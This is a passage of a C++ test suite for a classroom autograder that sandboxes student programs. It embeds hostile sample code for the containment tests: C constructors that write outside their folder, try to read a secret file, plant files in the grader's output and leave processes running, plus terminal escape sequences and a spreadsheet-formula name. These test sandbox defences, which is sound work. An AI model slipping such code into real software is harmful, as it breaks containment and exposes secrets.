// zor_grade as a teacher runs it, on a small class made here from the
// student simulator of tests/simulators: a correct one, three typical
// mistakes, one that crashes, one that loops, one that writes outside its
// folder, one that does not build and an empty folder. Graded once for
// the whole suite (it takes a while); each test reads what it wrote.
#include <algorithm>
#include <cerrno>
#include <filesystem>
#include <sstream>
#include <string>
#include <vector>

#include <gtest/gtest.h>
#include <signal.h>
#include <unistd.h>

#include "tests/process.h"

namespace {

namespace fs = std::filesystem;

const char Secret[] = "autumn tide 42";
const std::string Build = std::string(C_COMPILER) + " -std=c11 -O2 -o simulator *.c";

struct Student_Kind {
  const char* Id;
  const char* Define;  // the mistake, FAULT_...; empty for none; null for an empty folder
  const char* Extra;   // one more source file, or null
};

// Written as a student would: a constructor that plants a file well
// outside the folder it runs in, and complains if it cannot.
const char Escape_Source[] =
    "#include <stdio.h>\n#include <stdlib.h>\n"
    "__attribute__((constructor)) static void Plant(void) {\n"
    "  FILE* F = fopen(OUTSIDE, \"w\");\n"
    "  if (F == NULL) { perror(OUTSIDE); exit(3); }\n"
    "  fclose(F);\n}\n";

const Student_Kind Class[] = {
    {"ada", "", nullptr},
    {"ben", "FAULT_LIFO", nullptr},
    {"cy", "FAULT_HIGHEST_SERVER", nullptr},
    {"dee", "FAULT_SKIPPED_VISITED", nullptr},
    {"eve", "FAULT_CRASH_PAST_50", nullptr},
    {"fay", "FAULT_LOOP_ONE_SERVER", nullptr},
    {"gus", "", Escape_Source},
    {"hal", "", "int main( {\n"},
    {"ivy", nullptr, nullptr},
};

// Whether the sandbox's words say by what memory and processes were held,
// whichever of cgroup v1, v2 or the rlimits this machine gives.
bool Says_Which_Limits_Held(const std::string& Words) {
  bool Memory = false, Processes = false;
  for (const char* Held : {"memory by cgroup v1, ", "memory by cgroup v2, ", "memory by RLIMIT_DATA (no cgroup), "})
    Memory |= Words.find(Held) != std::string::npos;
  for (const char* Held : {"processes by cgroup v1", "processes by cgroup v2", "processes by RLIMIT_NPROC (no cgroup)",
                           "processes not limited (no cgroup, not root)"})
    Processes |= Words.find(Held) != std::string::npos;
  return Memory && Processes;
}

std::string Grades_Without_Seconds(const std::string& Csv) {
  std::istringstream In(Csv);
  std::string Out;
  for (std::string Line; std::getline(In, Line);) {
    // The eleventh column, "seconds", is emptied: the one that depends on
    // the machine. No field before it is ever quoted.
    size_t At = 0;
    for (int Comma = 0; Comma < 10; Comma++) At = Line.find(',', At) + 1;
    Out += Line.substr(0, At) + Line.substr(Line.find(',', At)) + "\n";
  }
  return Out;
}

class Zor_Grade : public ::testing::Test {
 protected:
  static std::string Root;      // the class, the output, and what the class may not touch
  static Run_Result First_Run;

  static std::string At(const std::string& Name) { return Root + "/" + Name; }

  static void Make_Student(const Student_Kind& K) {
    std::string Folder = At("class/") + K.Id;
    fs::create_directories(Folder);
    if (K.Define == nullptr) return;
    std::string Source = Read_File(TEST_SOURCE_DIR "/simulators/student_simulator.c");
    if (*K.Define) Source = "#define " + std::string(K.Define) + "\n" + Source;
    Write_File(Folder + "/student_simulator.c", Source);
    for (const char* Header : {"customer_parameters.h", "customer_results.h"})
      fs::copy_file(KIT_SOURCE_DIR "/common/" + std::string(Header), Folder + "/" + Header);
    if (K.Extra != nullptr)
      Write_File(Folder + "/extra.c", "#define OUTSIDE \"" + At("outside/planted") + "\"\n" + K.Extra);
  }

  static Run_Result Grade(std::vector<std::string> More, const char* Days = "30") {
    std::vector<std::string> Arguments = {"simulators", "--sandbox", "required", "--secret-file", At("secret"), "--days", Days,
                                          "--time-limit", "2",
                                          "--build", Build, "-o", "out", "class"};
    Arguments.insert(Arguments.begin() + 1, More.begin(), More.end());
    return Run_Program(ZOR_GRADE_PATH, Root, "", {}, Arguments);
  }

  static void SetUpTestSuite() {
    Root = Make_Scratch_Folder();
    Write_File(At("secret"), std::string(Secret) + "\n");
    fs::permissions(At("secret"), fs::perms::owner_read | fs::perms::owner_write);
    fs::create_directories(At("outside"));
    for (const Student_Kind& K : Class) Make_Student(K);
    First_Run = Grade({});
  }
  static void TearDownTestSuite() { Remove_Folder(Root); }
};

std::string Zor_Grade::Root;
Run_Result Zor_Grade::First_Run;

TEST_F(Zor_Grade, TheClassGetsExactlyTheExpectedRows) {
  ASSERT_EQ(First_Run.Exit_Status, 0) << First_Run.Err;
  EXPECT_EQ(First_Run.Out, "zor_grade: 9 students, 9 graded now, 0 unchanged since the last run; see out/report.html\n");
  // One line on standard error: what the sandbox gives on this machine.
  EXPECT_EQ(First_Run.Err.rfind("zor_grade: sandbox: each run in a box of its own", 0), 0u) << First_Run.Err;
  EXPECT_EQ(First_Run.Err.find('\n'), First_Run.Err.size() - 1) << First_Run.Err;
  // Every count below follows from the battery and the mistake: fay loops
  // on each day with a station of one server, eve crashes on each day of
  // more than 50 customers, gus fails on every day, contained, as it tries
  // to write outside its folder.
  EXPECT_EQ(Grades_Without_Seconds(Read_File(At("out/grades.csv"))),
            "id,task,verdict,score,days_followed,days_run,made_up_followed,made_up_run,first_rule,shrunk_customers,,"
            "crashed,time_limit,memory_limit,output_limit,process_limit,asked_for_input,reached_outside,bad_exit,"
            "no_output,bad_output,trace_differs,not_run,rule_records,rule_arrival,rule_route,rule_service,"
            "rule_servers,rule_first_come,rule_no_idle,rule_queue,rule_reference,reason\r\n"
            "ada,simulators,followed,100.0,30,30,17,17,,,,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,\r\n"
            "ben,simulators,broke-rule,16.7,5,30,4,17,first_come,3,,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,24,7,0,0,"
            "\"day 4: broke the rule \"\"first come, first served\"\"\"\r\n"
            "cy,simulators,broke-rule,33.3,10,30,9,17,no_idle,1,,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,20,0,0,"
            "\"day 3: broke the rule \"\"nobody waits while a server is free; lowest-numbered free server first\"\"\"\r\n"
            "dee,simulators,broke-rule,10.0,3,30,3,17,route,1,,0,0,0,0,0,0,0,0,0,0,0,0,0,0,27,1,0,1,0,19,0,"
            "\"day 1: broke the rule \"\"the route and its travel times\"\"\"\r\n"
            "eve,simulators,crashed,56.7,17,30,15,17,,51,,13,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,"
            "day 16: crashed: killed by signal 6 (Aborted)\r\n"
            "fay,simulators,time-limit,50.0,15,30,5,17,,1,,0,15,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,"
            "day 1: hit the time limit: more than 2 s of CPU time (an endless loop?)\r\n"
            "gus,simulators,reached-outside,0.0,0,30,0,17,,1,,0,0,0,0,0,0,30,0,0,0,0,0,0,0,0,0,0,0,0,0,0,"
            "day 1: tried to reach outside its folder: " + At("outside/planted") + ": No such file or directory\r\n"
            "hal,simulators,does-not-build,0.0,0,0,0,0,,,,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,"
            "the build command exited with status 1\r\n"
            "ivy,simulators,missing,0.0,0,0,0,0,,,,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,the folder is empty\r\n");
  // The program that writes outside its folder, contained, wrote nothing there.
  EXPECT_FALSE(File_Exists(At("outside/planted")));
}

// The files under Folder whose bytes hold Text.
std::vector<std::string> Files_Holding(const std::string& Folder, const std::string& Text) {
  std::vector<std::string> Holding;
  for (const auto& Entry : fs::recursive_directory_iterator(Folder))
    if (Entry.is_regular_file() && Read_File(Entry.path().string()).find(Text) != std::string::npos)
      Holding.push_back(Entry.path().string());
  return Holding;
}

// What a student may see never holds the secret or the seed that draws the
// battery, nor a day's own seed; each file starts with the verdict. No
// file the grading wrote holds the phrase.
TEST_F(Zor_Grade, FeedbackNeverHoldsTheSecret) {
  EXPECT_EQ(Files_Holding(At("out"), Secret), std::vector<std::string>{});
  EXPECT_EQ(Files_Holding(At("out"), "autumn"), std::vector<std::string>{});
  for (const Student_Kind& K : Class) {
    std::string Feedback = Read_File(At("out/feedback/") + K.Id + ".txt");
    EXPECT_EQ(Feedback.rfind(std::string("ZOR simulator: ") + K.Id + "\nVerdict: ", 0), 0u) << Feedback;
    EXPECT_EQ(Feedback.find(Secret), std::string::npos) << K.Id;
    EXPECT_EQ(Feedback.find("autumn"), std::string::npos) << K.Id;
    EXPECT_EQ(Feedback.find("seed"), std::string::npos) << K.Id << "\n" << Feedback;
  }
  // The failing day kept for rerunning by hand, beside the feedback.
  for (const char* Id : {"ben", "cy", "dee", "eve", "fay", "gus"}) {
    for (const char* File : {"ZOR_Binary_In", "entries", "Reference_Binary_Out", "Verdict"})
      EXPECT_TRUE(File_Exists(At("out/feedback/") + Id + ".day/" + File)) << Id << " " << File;
    EXPECT_EQ(Read_File(At("out/feedback/") + Id + ".day/Verdict").find("seed"), std::string::npos);
  }
  EXPECT_EQ(Read_File(At("out/feedback/ben.day/entries")), "1\n1\n1\n");
  EXPECT_FALSE(File_Exists(At("out/feedback/ada.day")));
  EXPECT_NE(Read_File(At("out/feedback/hal.txt")).find("error: expected declaration specifiers"), std::string::npos);
}

TEST_F(Zor_Grade, TheReportIsWellFormedAndShowsEveryStudent) {
  Run_Result Lint = Run_Program("/usr/bin/xmllint", Root, "", {}, {"--noout", "out/report.html"});
  EXPECT_EQ(Lint.Exit_Status, 0) << Lint.Err;
  EXPECT_EQ(Lint.Err, "");
  std::string Html = Read_File(At("out/report.html"));
  auto Count = [&Html](const std::string& What) {
    size_t N = 0;
    for (size_t At = Html.find(What); At != std::string::npos; At = Html.find(What, At + 1)) N++;
    return N;
  };
  for (const Student_Kind& K : Class) {
    EXPECT_EQ(Count(std::string("<section id=\"s-") + K.Id + "\">"), 1u) << K.Id;
    EXPECT_EQ(Count(std::string("<tr><td><a href=\"#s-") + K.Id + "\">"), 1u) << K.Id;
  }
  // How runs were contained, and by what memory and processes were held.
  size_t Said = Html.find("How each run was contained: ");
  ASSERT_NE(Said, std::string::npos);
  EXPECT_TRUE(Says_Which_Limits_Held(Html.substr(Said, Html.find('<', Said) - Said))) << Html.substr(Said, 400);
  // The histogram, and one picture per student with a failing day.
  EXPECT_EQ(Count("<svg "), 1u + 6u);
  EXPECT_EQ(Count("Scores of the class"), 1u);
  EXPECT_EQ(Html.find(Secret), std::string::npos);
  // The rules the class broke, most students first: the route's two
  // (dee) and first come's one (ben) follow no-idle's two (ben, cy)...
  size_t No_Idle = Html.find("<tr><td>rule: nobody waits"), First_Come = Html.find("<tr><td>rule: first come");
  EXPECT_LT(No_Idle, First_Come);
  EXPECT_NE(Html.find("<td>made up: one customer, LAB only</td><td>1 customer: a drawn day has a multiple of 28, "
                      "28 to 336</td><td class=\"n\">4 of 7</td>"),
            std::string::npos);
}

TEST_F(Zor_Grade, ThePlatformFilesHoldEveryGrade) {
  EXPECT_EQ(Read_File(At("out/canvas.csv")),
            "Student,ID,SIS User ID,SIS Login ID,Section,ZOR simulator\r\n"
            "ada,,,ada,,100.0\r\nben,,,ben,,16.7\r\ncy,,,cy,,33.3\r\ndee,,,dee,,10.0\r\neve,,,eve,,56.7\r\n"
            "fay,,,fay,,50.0\r\ngus,,,gus,,0.0\r\nhal,,,hal,,0.0\r\nivy,,,ivy,,0.0\r\n");
  std::string Moodle = Read_File(At("out/moodle.csv"));
  EXPECT_EQ(Moodle.rfind("Identifier,ZOR simulator,Feedback\r\nada,100.0,followed: followed the model on 30 of 30 "
                         "days\r\nben,16.7,\"broke-rule: followed the model on 5 of 30 days; day 4: broke the rule "
                         "\"\"first come, first served\"\"\"\r\n", 0), 0u) << Moodle;
  EXPECT_NE(Moodle.find("\r\nivy,0.0,missing: the folder is empty\r\n"), std::string::npos) << Moodle;
}

// A rerun grades again only what changed: a student's file, or every
// student with --again; what it writes is the same.
TEST_F(Zor_Grade, ARerunSkipsUnchangedSubmissions) {
  const std::string Before = Grades_Without_Seconds(Read_File(At("out/grades.csv")));
  const std::string Feedback = Read_File(At("out/feedback/ben.txt"));
  Run_Result Again = Grade({});
  EXPECT_EQ(Again.Out, "zor_grade: 9 students, 0 graded now, 9 unchanged since the last run; see out/report.html\n");
  EXPECT_EQ(Read_File(At("out/feedback/ben.txt")), Feedback);
  EXPECT_EQ(Grades_Without_Seconds(Read_File(At("out/grades.csv"))), Before);
  Write_File(At("class/ivy/simulator"), "#!/bin/sh\nexit 0\n");
  Run_Result Changed = Grade({});
  EXPECT_EQ(Changed.Out, "zor_grade: 9 students, 1 graded now, 8 unchanged since the last run; see out/report.html\n");
  EXPECT_NE(Read_File(At("out/grades.csv")).find("\r\nivy,simulators,does-not-build,"), std::string::npos);
  fs::remove(At("class/ivy/simulator"));
  Run_Result All = Grade({"--again"}, "18");
  EXPECT_EQ(All.Out, "zor_grade: 9 students, 9 graded now, 0 unchanged since the last run; see out/report.html\n");
  EXPECT_NE(Read_File(At("out/grades.csv")).find("\r\nada,simulators,followed,100.0,18,18,"), std::string::npos);
  Run_Result Restored = Grade({});  // back to the first settings: graded again, with the first rows
  EXPECT_EQ(Grades_Without_Seconds(Read_File(At("out/grades.csv"))), Before);
}

// One submission, as Gradescope's run_autograder would grade it.
TEST_F(Zor_Grade, GradescopeGetsResultsJsonWithItsFields) {
  Run_Result R = Run_Program(ZOR_GRADE_PATH, Root, "", {},
                             {"simulators", "--gradescope", "--secret", Secret, "--days", "20", "--build", Build,
                              "-o", "results", "class/ben"});
  ASSERT_EQ(R.Exit_Status, 0) << R.Err;
  EXPECT_EQ(R.Out.rfind("zor_grade: ben broke-rule, ", 0), 0u) << R.Out;
  // The phrase on the command line is seen by every user: said so.
  EXPECT_NE(R.Err.find("\nzor_grade: warning: --secret shows the phrase to every user"), std::string::npos) << R.Err;
  std::string Json = Read_File(At("results/results.json"));
  EXPECT_EQ(Json.find(Secret), std::string::npos);
  const char* const Checks[] = {
      "(.score | type) == \"number\" and .score == .tests[0].score and .tests[0].max_score == 100",
      "(.execution_time | type) == \"number\" and .visibility == \"visible\" and .stdout_visibility == \"hidden\"",
      ".extra_data.verdict == \"broke-rule\" and .extra_data.days_run == 20",
      ".extra_data.sandbox | startswith(\"sandbox: each run in a box of its own\")",
      ".extra_data.sandbox | test(\"; memory by (cgroup v1|cgroup v2|RLIMIT_DATA .no cgroup.), processes \")",
      ".output | startswith(\"ZOR simulator: ben\\nVerdict: broke-rule.\")",
      ".tests | length == 1 + 9 + 12",
      "[.tests[] | keys] | unique == [[\"max_score\", \"name\", \"number\", \"output\", \"score\", \"tags\", "
      "\"visibility\"]]",
      "[.tests[].number] == [range(1; 23) | tostring]",
      ".tests[] | select(.name == \"Rule: first come, first served\") | .output | test(\"^broken on [0-9]+ of 20 "
      "days$\")",
      ".tests[] | select(.name == \"Rule: the route and its travel times\") | .output == \"held on all 20 days\"",
      ".tests[] | select(.name == \"Rule: equal to the reference simulator\") | .output == \"differs from the "
      "reference only on days that the rules above explain\"",
      ".tests[] | select(.name == \"Days ended as time limit\") | .output == \"on none of the 20 days\"",
  };
  for (const char* Check : Checks) {
    Run_Result Q = Run_Program("/usr/bin/jq", Root, "", {}, {"-e", Check, "results/results.json"});
    EXPECT_EQ(Q.Exit_Status, 0) << Check << "\n" << Q.Out << Q.Err;
    EXPECT_EQ(Q.Out, "true\n") << Check;
  }
}

// Tests that need no class graded beforehand.
using Zor_Grade_Alone = Scratch_Folder_Test;

// A manifest names each student's folder and, for one, the command that
// runs their program; a folder that is not there is a row too.
TEST_F(Zor_Grade_Alone, AManifestGivesFoldersAndCommands) {
  fs::create_directories(At("scripts"));
  fs::copy_file(TEST_SOURCE_DIR "/simulators/asks_for_more.sh", At("scripts/asks_for_more.sh"));
  Write_File(At("class.csv"), "identifier,folder,command\nasker,scripts,sh asks_for_more.sh\ngone,nowhere\n");
  Run_Result R = Run_Program(ZOR_GRADE_PATH, Folder, "", {}, {"simulators", "--days", "3", "-o", "manifest_out",
                                                            "class.csv"});
  ASSERT_EQ(R.Exit_Status, 0) << R.Err;
  std::string Csv = Grades_Without_Seconds(Read_File(At("manifest_out/grades.csv")));
  EXPECT_EQ(Csv.substr(Csv.find('\n') + 1),
            "asker,simulators,asked-for-input,0.0,0,3,0,3,,1,,0,0,0,0,0,3,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,"
            "day 1: asked for more than the three entries (the server counts) and waited for another\r\n"
            "gone,simulators,missing,0.0,0,0,0,0,,,,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,no folder " + At("nowhere") +
            "\r\n");
  // A program that waits for input is shown waiting: standard input left open.
  EXPECT_NE(Read_File(At("manifest_out/feedback/asker.txt")).find("cd asker.day && cp -Rn /path/to/your/submission/. . && cat entries - | sh asks_for_more.sh\n"),
            std::string::npos);
}

// A student whose words are commands: an identifier a spreadsheet would
// evaluate, and a program that writes terminal commands on standard
// error. They reach every file as text, and the honest student beside
// them keeps exactly the grade they get alone.
TEST_F(Zor_Grade_Alone, HostileWordsAreShownNeverObeyed) {
  fs::create_directories(At("ada"));
  fs::create_directories(At("mal"));
  fs::copy_file(STUDENT_SIMULATOR, At("ada/simulator"));
  fs::copy_file(TEST_SOURCE_DIR "/simulators/prints_escapes.sh", At("mal/prints_escapes.sh"));
  Write_File(At("both.csv"), "identifier,folder,command\nada,ada\n@mal,mal,sh prints_escapes.sh\n");
  Write_File(At("alone.csv"), "identifier,folder,command\nada,ada\n");
  for (const char* Class : {"both", "alone"}) {
    Run_Result R = Run_Program(ZOR_GRADE_PATH, Folder, "", {},
                               {"simulators", "--sandbox", "required", "--days", "4", "-o", std::string(Class) + "_out",
                                std::string(Class) + ".csv"});
    ASSERT_EQ(R.Exit_Status, 0) << R.Err;
  }
  std::string Both = Grades_Without_Seconds(Read_File(At("both_out/grades.csv")));
  std::string Alone = Grades_Without_Seconds(Read_File(At("alone_out/grades.csv")));
  EXPECT_EQ(Both.substr(0, Alone.size()), Alone);
  EXPECT_NE(Both.find("\n'@mal,simulators,bad-exit,0.0,0,4,"), std::string::npos) << Both;
  EXPECT_NE(Read_File(At("both_out/canvas.csv")).find("\r\n'@mal,,,'@mal,,0.0\r\n"), std::string::npos);
  EXPECT_NE(Read_File(At("both_out/moodle.csv"))
                .find("\r\n'@mal,0.0,\"bad-exit: followed the model on 0 of 4 days; day 1: exited with status 1, "
                      "not 0\"\r\n"),
            std::string::npos)
      << Read_File(At("both_out/moodle.csv"));
  const std::string Shown = "\\x1b]0;owned\\x07\\x1b[2J\\x0dthe program followed the model on all 200 days";
  EXPECT_NE(Read_File(At("both_out/feedback/@mal.txt")).find(Shown), std::string::npos)
      << Read_File(At("both_out/feedback/@mal.txt"));
  EXPECT_NE(Read_File(At("both_out/report.html")).find(Shown), std::string::npos);
  for (const char* File : {"grades.csv", "canvas.csv", "moodle.csv", "report.html", "feedback/@mal.txt"})
    EXPECT_EQ(Read_File(At("both_out/") + File).find('\x1b'), std::string::npos) << File;
  Run_Result Lint = Run_Program("/usr/bin/xmllint", Folder, "", {}, {"--noout", "both_out/report.html"});
  EXPECT_EQ(Lint.Exit_Status, 0) << Lint.Err;
}

// The phrase from a file, from the environment or (warned against) the
// command line draws one battery, so a rerun with it from elsewhere
// finds nothing changed; another phrase regrades. No file written holds
// a phrase.
TEST_F(Zor_Grade_Alone, ThePhraseComesFromAFileOrTheEnvironment) {
  fs::create_directories(At("class/ivy"));
  const std::string Phrase = "quiet harbour 7", Other = "loud harbour 8";
  Write_File(At("phrase"), Phrase + "\n");
  fs::permissions(At("phrase"), fs::perms::owner_read | fs::perms::owner_write);
  Write_File(At("other"), Other + "\r\n");
  fs::permissions(At("other"), fs::perms::owner_read | fs::perms::owner_write | fs::perms::others_read);
  const char* const On_The_Command_Line = "zor_grade: warning: --secret shows the phrase to every user";
  const char* const Readable = "zor_grade: warning: every user of this machine may read other: chmod 600 it";
  const struct {
    std::vector<std::string> Given;
    const char* Warning;  // the second line on standard error, if any
    const char* Graded;   // what the rerun says of the one student
  } Cases[] = {
      {{"ZOR_GRADE_SECRET=" + Phrase}, nullptr, "1 graded now, 0 unchanged"},
      {{"--secret-file", "phrase"}, nullptr, "0 graded now, 1 unchanged"},
      {{"--secret", Phrase}, On_The_Command_Line, "0 graded now, 1 unchanged"},
      {{"--secret-file", "other"}, Readable, "1 graded now, 0 unchanged"},
      {{"ZOR_GRADE_SECRET=" + Phrase, "--secret-file", "other"}, Readable, "0 graded now, 1 unchanged"},
      {{"ZOR_GRADE_SECRET=" + Phrase, "--seed", "9"}, nullptr, "1 graded now, 0 unchanged"},
  };
  for (const auto& C : Cases) {
    SCOPED_TRACE(C.Given[0] + (C.Given.size() > 1 ? " " + C.Given[1] : ""));
    std::vector<std::string> Arguments;
    std::vector<std::string> Options;
    for (const std::string& Word : C.Given)
      (Word.rfind("ZOR_GRADE_SECRET=", 0) == 0 ? Arguments : Options).push_back(Word);
    Arguments.push_back(ZOR_GRADE_PATH);
    Arguments.insert(Arguments.end(), {"simulators", "--sandbox", "required", "--days", "20"});
    Arguments.insert(Arguments.end(), Options.begin(), Options.end());
    Arguments.insert(Arguments.end(), {"-o", "out", "class"});
    Run_Result R = Run_Program("/usr/bin/env", Folder, "", {}, Arguments);
    ASSERT_EQ(R.Exit_Status, 0) << R.Err;
    EXPECT_NE(R.Out.find(C.Graded), std::string::npos) << R.Out;
    std::string Second = R.Err.substr(R.Err.find('\n') + 1);
    EXPECT_EQ(Second.rfind(C.Warning != nullptr ? C.Warning : "", 0), 0u) << R.Err;
    EXPECT_EQ(std::count(R.Err.begin(), R.Err.end(), '\n'), C.Warning != nullptr ? 2 : 1) << R.Err;
  }
  for (const std::string& Text : {Phrase, Other, std::string("harbour")})
    EXPECT_EQ(Files_Holding(At("out"), Text), std::vector<std::string>{}) << Text;
}

// A stand-in bwrap that fails as it does under Docker's default seccomp,
// first on the PATH a program is run with.
std::string Path_With_Failing_Bwrap(const std::string& Folder) {
  fs::create_directories(Folder + "/failing_bwrap");
  Write_File(Folder + "/failing_bwrap/bwrap",
             "#!/bin/sh\necho 'bwrap: Creating new namespace failed: Operation not permitted' >&2\nexit 1\n");
  fs::permissions(Folder + "/failing_bwrap/bwrap", fs::perms::all & ~fs::perms::group_write & ~fs::perms::others_write);
  return "PATH=" + Folder + "/failing_bwrap:/usr/local/bin:/usr/bin:/bin";
}

// Written as a student would, to leave markers where it gets through: it
// notes that it ran, then tries to plant a file in the grader's output
// folder, to read the secret file, and to leave a process running (which
// notes its number once it is running, and sleeps at most ten minutes).
const char Intruder_Source[] =
    "#include <stdio.h>\n#include <unistd.h>\n"
    "__attribute__((constructor)) static void Intrude(void) {\n"
    "  char Name[512];\n"
    "  snprintf(Name, sizeof Name, \"%s/ran_%d\", DROP, (int)getuid());\n"
    "  FILE* F = fopen(Name, \"w\");\n  if (F != NULL) fclose(F);\n"
    "  F = fopen(OUT \"/planted\", \"w\");\n  if (F != NULL) fclose(F);\n"
    "  F = fopen(SECRET, \"r\");\n"
    "  if (F != NULL) { fclose(F); F = fopen(DROP \"/read_the_secret\", \"w\"); if (F != NULL) fclose(F); }\n"
    "  int Ready[2];\n  if (pipe(Ready) != 0) return;\n"
    "  if (fork() == 0) {\n"
    "    setsid();\n"
    "    snprintf(Name, sizeof Name, \"%s/left_%d\", DROP, (int)getpid());\n"
    "    F = fopen(Name, \"w\");\n    if (F != NULL) fclose(F);\n"
    "    if (write(Ready[1], \"x\", 1) != 1) _exit(1);\n"
    "    for (int I = 0; I < 600; I++) sleep(1);\n    _exit(0);\n  }\n"
    "  char Byte;\n  if (read(Ready[0], &Byte, 1) != 1) return;\n"
    "  close(Ready[0]), close(Ready[1]);\n}\n";

// Where bubblewrap cannot start, a root grader still runs each build and
// day as a fresh user of its own: the intruder's every try fails and
// nothing it started outlives its run, the honest student keeps the full
// grade, and the terminal, the report and results.json say how runs were
// contained.
TEST_F(Zor_Grade_Alone, WithoutABoxEachRunIsAUserOfItsOwn) {
  if (geteuid() != 0) {
    if (std::getenv("ZOR_SANDBOX_MUST_RUN") != nullptr) ADD_FAILURE() << "runs as a user of their own need root";
    GTEST_SKIP() << "needs root";
  }
  fs::permissions(Folder, fs::perms::owner_all | fs::perms::group_exec | fs::perms::others_exec);
  fs::create_directories(At("drop"));
  fs::permissions(At("drop"), fs::perms::all);
  fs::create_directories(At("out"));
  Write_File(At("secret"), std::string(Secret) + "\n");
  fs::permissions(At("secret"), fs::perms::owner_read | fs::perms::owner_write);
  std::string Source = Read_File(TEST_SOURCE_DIR "/simulators/student_simulator.c");
  for (const char* Id : {"ada", "mal"}) {
    fs::create_directories(At("class/") + Id);
    Write_File(At("class/") + Id + "/student_simulator.c", Source);
    for (const char* Header : {"customer_parameters.h", "customer_results.h"})
      fs::copy_file(KIT_SOURCE_DIR "/common/" + std::string(Header), At("class/") + Id + "/" + Header);
  }
  Write_File(At("class/mal/extra.c"), "#define DROP \"" + At("drop") + "\"\n#define OUT \"" + At("out") +
                                          "\"\n#define SECRET \"" + At("secret") + "\"\n" + Intruder_Source);
  const std::vector<std::string> Grading = {"simulators", "--secret-file", At("secret"), "--days", "3",
                                            "--time-limit", "2", "--build", Build};
  std::vector<std::string> Arguments = {Path_With_Failing_Bwrap(Folder), ZOR_GRADE_PATH};
  Arguments.insert(Arguments.end(), Grading.begin(), Grading.end());
  Arguments.insert(Arguments.end(), {"-o", "out", "class"});
  Run_Result R = Run_Program("/usr/bin/env", Folder, "", {}, Arguments);
  ASSERT_EQ(R.Exit_Status, 0) << R.Err;
  EXPECT_EQ(R.Err.rfind("zor_grade: sandbox: no box (this system refuses new namespaces", 0), 0u) << R.Err;
  EXPECT_NE(R.Err.find("; each run as a fresh user id of its own ("), std::string::npos) << R.Err;
  EXPECT_NE(R.Err.find("\nzor_grade: warning: other users may reach class, "), std::string::npos) << R.Err;
  std::string Csv = Read_File(At("out/grades.csv"));
  EXPECT_NE(Csv.find("\r\nada,simulators,followed,100.0,3,3,"), std::string::npos) << Csv;
  std::string Html = Read_File(At("out/report.html"));
  size_t Said = Html.find("How each run was contained: no box (");
  ASSERT_NE(Said, std::string::npos);
  EXPECT_TRUE(Says_Which_Limits_Held(Html.substr(Said, Html.find('<', Said) - Said))) << Html.substr(Said, 400);
  // It ran, as users that are neither root nor one another.
  std::vector<std::string> Ran, Left;
  for (const auto& Entry : fs::directory_iterator(At("drop"))) {
    std::string Name = Entry.path().filename().string();
    (Name.rfind("ran_", 0) == 0 ? Ran : Left).push_back(Name);
  }
  EXPECT_GE(Ran.size(), 3u);
  EXPECT_EQ(std::count(Ran.begin(), Ran.end(), "ran_0"), 0);
  EXPECT_FALSE(File_Exists(At("out/planted")));
  EXPECT_EQ(std::count(Left.begin(), Left.end(), "read_the_secret"), 0);
  size_t Processes_Left = 0;
  for (const std::string& Name : Left) {
    if (Name.rfind("left_", 0) != 0) continue;
    Processes_Left++;
    pid_t Pid = static_cast<pid_t>(std::stol(Name.substr(5)));
    EXPECT_TRUE(kill(Pid, 0) != 0 && errno == ESRCH) << Name << " still runs";
  }
  EXPECT_EQ(Processes_Left, Ran.size());
  // Gradescope's results say it too.
  Arguments = {Path_With_Failing_Bwrap(Folder), ZOR_GRADE_PATH};
  Arguments.insert(Arguments.end(), Grading.begin(), Grading.end());
  Arguments.insert(Arguments.end(), {"--gradescope", "-o", "results", "class/ada"});
  Run_Result G = Run_Program("/usr/bin/env", Folder, "", {}, Arguments);
  ASSERT_EQ(G.Exit_Status, 0) << G.Err;
  Run_Result Q = Run_Program("/usr/bin/jq", Folder, "", {},
                             {"-e", ".extra_data.sandbox | startswith(\"sandbox: no box (\")", "results/results.json"});
  EXPECT_EQ(Q.Out, "true\n") << Q.Err;
}

// Neither a box nor root: grading refuses in one line that says what to
// change, unless the sandbox is turned off in so many words.
TEST_F(Zor_Grade_Alone, WithNeitherBoxNorRootGradingRefuses) {
  if (geteuid() != 0) GTEST_SKIP() << "becoming another user needs root";
  fs::permissions(Folder, fs::perms::all);
  fs::create_directories(At("class/ivy"));
  // A copy of zor_grade the other user can reach: the build tree may lie
  // in a folder only its owner may enter (a clone in `mktemp -d`).
  const std::string Grade = At("zor_grade");
  fs::copy_file(ZOR_GRADE_PATH, Grade);
  fs::permissions(Grade, fs::perms::owner_all | fs::perms::group_exec | fs::perms::others_exec |
                             fs::perms::group_read | fs::perms::others_read);
  const struct {
    const char* Sandbox;
    int Status;
    const char* Err_Starts;
  } Cases[] = {
      {"auto", 2, "zor_grade: students' code would run with your own rights, as no box can be made (this system "
                  "refuses new namespaces"},
      {"required", 2, "zor_grade: --sandbox required, but this system refuses new namespaces"},
      {"off", 0, "zor_grade: sandbox off: "},
  };
  for (const auto& C : Cases) {
    SCOPED_TRACE(C.Sandbox);
    Run_Result R = Run_Program("/usr/bin/setpriv", Folder, "", {},
                               {"--reuid=65534", "--regid=65534", "--clear-groups", "/usr/bin/env",
                                Path_With_Failing_Bwrap(Folder), Grade, "simulators", "--sandbox", C.Sandbox,
                                "--days", "3", "-o", std::string("out_") + C.Sandbox, "class"});
    EXPECT_EQ(R.Exit_Status, C.Status) << R.Err;
    EXPECT_EQ(R.Err.rfind(C.Err_Starts, 0), 0u) << R.Err;
    EXPECT_EQ(R.Err.find('\n'), R.Err.size() - 1) << R.Err;
    EXPECT_EQ(File_Exists(At(std::string("out_") + C.Sandbox + "/grades.csv")), C.Status == 0);
  }
  EXPECT_NE(Run_Program("/usr/bin/setpriv", Folder, "", {},
                        {"--reuid=65534", "--regid=65534", "--clear-groups", "/usr/bin/env",
                         Path_With_Failing_Bwrap(Folder), Grade, "simulators", "--days", "3", "-o", "out_x",
                         "class"})
                .Err.find("give --sandbox off to run it uncontained"),
            std::string::npos);
}

// A class as Canvas and Moodle hand it out, as a zip or a folder: one
